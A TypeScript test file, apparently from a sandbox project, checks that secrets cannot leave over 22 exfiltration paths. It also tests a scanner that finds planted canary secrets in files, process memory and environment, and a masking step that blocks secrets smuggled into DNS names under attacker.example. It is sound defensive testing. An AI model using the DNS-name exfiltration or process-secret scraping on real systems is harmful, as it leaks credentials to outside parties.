// The attack on the secrets, all 22 ways out against a real server over stdio; that its search finds what is there; and the look-ups of names.
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { expect, onTestFinished, test } from "vitest";
import { runAttack } from "../attack/attack.ts";
import { MARK, NEEDLES, SECRETS } from "../attack/canaries.ts";
import { expectHeld, RECEIVED } from "../attack/held.ts";
import { searchBytes, searchFolder, searchProcess } from "../attack/search.ts";
import { callEgress, failure, openPolicy, recorder, secretHeader, send, stubDial, stubLookup, textOf, trusting } from "./egress-support.ts";

test("all 22 ways out fail over stdio, and no secret is in any file, stream, process or request but those to its API", async () => {
  const report = await runAttack("stdio");
  expectHeld(report);
  expect(report.received).toEqual(RECEIVED);
});

test("the search finds a secret in every form, in files, their names and JSON in JSON", () => {
  for (const { bytes } of NEEDLES)
    expect(searchBytes("here", Buffer.concat([Buffer.from("before "), bytes, Buffer.from(" after")]))).not.toEqual([]);
  for (const text of [MARK, SECRETS.API_KEY, SECRETS.LATIN_KEY]) {
    for (const before of ["", "x", "xx"])
      expect(searchBytes("here", Buffer.from(Buffer.from(before + text).toString("base64")))).not.toEqual([]);
    expect(searchBytes("here", Buffer.from(JSON.stringify(JSON.stringify({ text }))))).not.toEqual([]);
  }
  expect(searchBytes("here", Buffer.from("Zq7cAnAr"))).toEqual([]);
  const folder = mkdtempSync(join(tmpdir(), "toolyard-planted-"));
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }));
  expect(searchFolder(folder)).toEqual({ found: [], files: 0, bytes: 0 });
  mkdirSync(join(folder, "deep"));
  writeFileSync(join(folder, "deep", "log"), `{"level":20,"text":"${MARK}"}`);
  writeFileSync(join(folder, `${MARK}.txt`), "nothing");
  const { found } = searchFolder(folder);
  expect(found.map(({ place }) => place).sort()).toEqual(
    [join(folder, "deep", "log"), `the name of ${join(folder, `${MARK}.txt`)}`].sort(),
  );
});

test("the search finds a secret in arguments, environment and memory of a process, and only there", async () => {
  const started = async (args: readonly string[], env: Readonly<Record<string, string>>): Promise<number> => {
    const code = `let text = ""; process.stdin.on("data", (part) => { text += part; if (text.endsWith("!")) console.log("has it"); });`;
    const child = spawn(process.execPath, ["-e", code, "--", ...args], { env, stdio: ["pipe", "pipe", "ignore"] });
    onTestFinished(() => void child.kill("SIGKILL"));
    child.stdin.write(args[0] === "memory" ? `${SECRETS.JWT_KEY}!` : "nothing!");
    await once(child.stdout, "data");
    return child.pid ?? 0;
  };
  const pids = await Promise.all([started([], {}), started([`--key=${MARK}`], {}), started([], { KEY: MARK }), started(["memory"], {})]);
  const places = pids.map((pid) => new Set(searchProcess(pid).found.map(({ place }) => place.replaceAll(/ of \d+.*$/g, ""))));
  expect(places[0]).toEqual(new Set());
  expect(places[1]).toContain("cmdline");
  expect(places[2]).toContain("environ");
  expect(places[3]).toEqual(new Set(["memory"]));
});

test("a name that is looked up never holds a value: what a script gets of an echo is masked", async () => {
  const api = await recorder(() => ({ status: 200, body: `${SECRETS.JWT_KEY}.attacker.example` }));
  const host = `127.0.0.1:${api.port}`;
  const { lookup, asked } = stubLookup(["203.0.113.7"]);
  const { dial } = stubDial();
  // Without masking the script has the value, and the name is asked for.
  const bare = await send(callEgress({ policy: trusting(host) }), `http://${host}/`);
  await failure(send(callEgress({ policy: openPolicy }, { lookup, dial }), `https://${textOf(bare).toLowerCase().replaceAll("_", "-")}/`));
  expect(asked.join()).toContain(MARK.toLowerCase());
  const masked = await send(callEgress({ policy: trusting(host), toolHeaders: secretHeader("x-key", SECRETS.JWT_KEY) }), `http://${host}/`);
  expect(textOf(masked)).toBe("[redacted].attacker.example");
  const before = asked.length;
  const refused = await failure(send(callEgress({ policy: openPolicy }, { lookup, dial }), `https://${textOf(masked)}/`));
  expect([refused.code, asked.length - before]).toEqual(["INVALID_REQUEST", 0]);
});
